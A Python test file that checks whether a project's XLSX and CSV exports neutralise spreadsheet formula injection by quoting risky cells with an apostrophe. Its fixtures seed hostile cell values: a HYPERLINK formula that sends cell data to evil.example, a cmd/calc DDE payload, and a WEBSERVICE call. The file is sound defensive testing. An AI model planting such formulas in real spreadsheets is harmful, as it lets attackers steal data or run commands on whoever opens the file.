"""Formula injection through every spreadsheet the project writes: every table of every export.

A store whose every text a user can load starts with a character a spreadsheet runs (`= + - @`, a
tab, a CR; OWASP's list), with money on it so the funding sheets list it too. Then every way a table
leaves the program is read cell by cell: the XLSX (CLI, `/export/tables.xlsx`, a county's and the whole
graph's), the CSV folder, and the `--csv` outputs of `funding`, `funding benchmark`, every `analyze` and
`resolve --report`. No cell is a formula (no `<f>` element in a sheet, no text cell that starts with one
of those characters), and the text is kept, quoted by an apostrophe.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from api.app import create_app
from graph.analysis import ANALYSES
from graph.settings import Settings

from .conftest import RunCli

RUNS = ("=", "+", "-", "@", "\t", "\r")
NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def formula_folder(root: Path) -> Path:
    folder = root / "formulas"
    folder.mkdir()
    actors = [
        ["id", "name", "kind", "country", "county_code", "city", "aliases", "website"],
        ["reg:fx1", NAME, "company", "SE", "10", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "=WEBSERVICE(1)"],
        ["reg:fx2", "-2+3 AB", "company", "SE", "12", "\tTabbed", "", ""],
        ["reg:fx3", "@Concat AB", "university", "SE", "10", "", "=1;+2", ""],
    ]
    projects = [
        ["id", "title", "programme", "acronym", "budget", "currency", "start", "end"],
        ["reg:fxp", "=1+2 storage", "+Evil programme", "-ACR", "1000000", "EUR", "2022-01-01", "2023-12-31"],
        ["reg:fxq", "@title", "=Other", "=A1", "5000", "SEK", "2021-01-01", "2022-12-31"],
    ]
    parts = [
        ["actor_id", "project_id", "role", "contribution", "currency"],
        ["reg:fx1", "reg:fxp", "coordinator", "600000", "EUR"],
        ["reg:fx2", "reg:fxp", "partner", "300000", "EUR"],
        ["reg:fx3", "reg:fxq", "partner", "5000", "SEK"],
        ["se:region-blekinge", "reg:fxp", "partner", "100000", "EUR"],
    ]
    for name, rows in (("actors.csv", actors), ("projects.csv", projects), ("participations.csv", parts)):
        with (folder / name).open("w", newline="", encoding="utf-8") as f:
            csv.writer(f).writerows(rows)
    return folder


@pytest.fixture
def fdb(cli: RunCli, db: Path, tmp_path: Path) -> Path:
    run = cli("ingest", "csv", formula_folder(tmp_path), "--db", db)
    assert run.code == 0, run.out
    return db


def _xlsx_cells(data: bytes) -> Iterator[tuple[str, object]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for n in z.namelist():
            if n.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(n) and b"<f " not in z.read(n), n
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    yield ws.title, c.value


def _check_texts(where: str, cells: Iterator[tuple[str, object]]) -> set[str]:
    texts = set()
    for sheet, value in cells:
        if isinstance(value, str):
            assert not value.startswith(RUNS), (where, sheet, value)
            texts.add(value)
    return texts


def _csv_cells(text: str) -> Iterator[tuple[str, object]]:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            # a CSV cell is text: a negative number is the one thing that may start with "-"
            if cell.startswith("-") and cell[1:].replace(".", "", 1).replace(",", "").isdigit():
                continue
            yield "csv", cell


@pytest.mark.parametrize("county", ["10", "all"])
def test_every_xlsx_sheet_is_formula_free(cli: RunCli, fdb: Path, tmp_path: Path, county: str) -> None:
    out = tmp_path / "t.xlsx"
    run = cli("export", "tables", "--format", "xlsx", "--out", out, "--county", county, "--db", fdb)
    assert run.code == 0, run.out
    wb = load_workbook(out)
    assert {"actors", "projects", "participations", "funding", "funding_benchmark"} <= set(wb.sheetnames)
    texts = _check_texts("cli xlsx", _xlsx_cells(out.read_bytes()))
    assert "'" + NAME in texts and "'+Evil programme" in texts  # kept as text, in the funding sheet too
    funding = {str(c.value) for row in wb["funding"].iter_rows() for c in row}
    assert "'" + NAME in funding and "'+Evil programme" in funding
    with TestClient(create_app(Settings(db=fdb))) as client:
        r = client.get("/export/tables.xlsx", params={"county": county})
    assert r.status_code == 200
    assert "'" + NAME in _check_texts("api xlsx", _xlsx_cells(r.content))


def test_every_csv_table_is_formula_free(cli: RunCli, fdb: Path, tmp_path: Path) -> None:
    folder = tmp_path / "tables"
    assert (
        cli("export", "tables", "--format", "csv", "--out", folder, "--county", "all", "--db", fdb).code == 0
    )
    names = {f.stem for f in folder.glob("*.csv")}
    assert {"actors", "projects", "participations", "funding", "funding_benchmark"} <= names
    seen = set()
    for f in folder.glob("*.csv"):
        seen |= _check_texts(f.name, _csv_cells(f.read_text(encoding="utf-8-sig")))
    assert "'" + NAME in seen


COMMANDS = [
    ("funding", "--county", "10", "--csv"),
    ("funding", "--county", "all", "--programme", "+Evil programme", "--csv"),
    ("funding", "benchmark", "--county", "10", "--csv"),
    ("resolve", "--report"),
    *(("analyze", name, "--county", "10,12", "--csv") for name in ANALYSES),
]


@pytest.mark.parametrize("args", COMMANDS, ids=lambda a: " ".join(a[:2]))
def test_every_csv_output_is_formula_free(cli: RunCli, fdb: Path, args: tuple[str, ...]) -> None:
    run = cli(*args, "--db", fdb)
    assert run.code == 0, run.out
    _check_texts(" ".join(args), _csv_cells(run.out))
    if args[0] == "funding" and "benchmark" not in args:
        assert "'" + NAME in run.out.replace('""', '"')
